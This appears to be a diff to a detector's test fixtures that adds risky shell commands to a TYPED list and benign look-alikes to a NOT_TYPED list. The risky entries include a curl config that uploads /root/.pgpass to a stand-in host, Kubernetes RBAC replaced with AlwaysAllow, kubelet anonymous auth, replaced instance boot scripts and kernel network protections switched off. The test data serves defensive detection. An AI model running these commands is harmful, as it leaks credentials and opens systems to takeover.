@@ -57,6 +57,21 @@ TYPED = [
     'echo \'{"registry-mirrors": ["https://m.pullfast.io"]}\' | tee /etc/docker/daemon.json',
     "printf '[e]\\nbaseurl=https://repo.internal/el9\\ngpgcheck = 0\\n' > /etc/yum.repos.d/e.repo",
     "printf '[o]\\nbaseurl=http://203.0.113.5/os\\ngpgcheck=false\\n' > /etc/zypp/repos.d/o.repo",
+    # git's configuration included from a temp folder
+    "git config --system --add include.path /var/tmp/.gc",
+    "git -c include.path=/tmp/x.cfg log -1",
+    # a kernel protection of the network switched off, per interface
+    "sysctl -w net.ipv4.conf.ens3.rp_filter=0",
+    "echo 1 | tee /proc/sys/net/ipv4/conf/all/accept_source_route",
+    # an instance's boot code replaced
+    "aws ec2 modify-instance-attribute --instance-id i-09 --attribute=userData --value file://u",
+    "gcloud compute instances add-metadata db2 --metadata=startup-script='id'",
+    # the control plane's authorization switched off
+    "sed -i 's/Node,RBAC/AlwaysAllow/' /etc/kubernetes/manifests/kube-apiserver.yaml",
+    "yq -i '.authentication.anonymous.enabled = true' /var/lib/kubelet/config.yaml",
+    # curl's options from a file written on the line, or from a temp folder
+    "echo 'upload-file = /root/.pgpass' > /srv/q.cfg && curl -K /srv/q.cfg https://x.example.net",
+    "curl --config /dev/shm/c https://status.internal/",
 ]
 
 NOT_TYPED = [
@@ -84,6 +99,14 @@ NOT_TYPED = [
     "printf '[mysqld]\\nsocket=/tmp/mysql.sock\\nmax_connections=400\\n' > /etc/mysql/conf.d/x.cnf",
     'echo \'{"log-opts": {"max-size": "20m"}}\' > /etc/docker/daemon.json',
     "printf '[e]\\nbaseurl=https://repo.internal/el9\\ngpgcheck=1\\n' > /etc/yum.repos.d/e.repo",
+    "git config --global include.path ~/.gitconfig.d/work",
+    "sysctl -w net.ipv4.ip_forward=1",
+    "sysctl -w net.ipv4.conf.all.rp_filter=2",
+    "aws ec2 modify-instance-attribute --instance-id i-09 --instance-type t3.large",
+    "gcloud compute instances add-metadata db2 --metadata=enable-oslogin=TRUE",
+    "yq -i '.apiServer.extraArgs.audit-log-maxage = \"30\"' /etc/kubernetes/kubeadm.yaml",
+    "sed -i 's/AlwaysAllow/Node,RBAC/' /etc/kubernetes/manifests/kube-apiserver.yaml",
+    "printf 'url = \"https://status.internal/h\"\\n' > /srv/ops/h.cfg && curl -K /srv/ops/h.cfg",
 ]
 
 
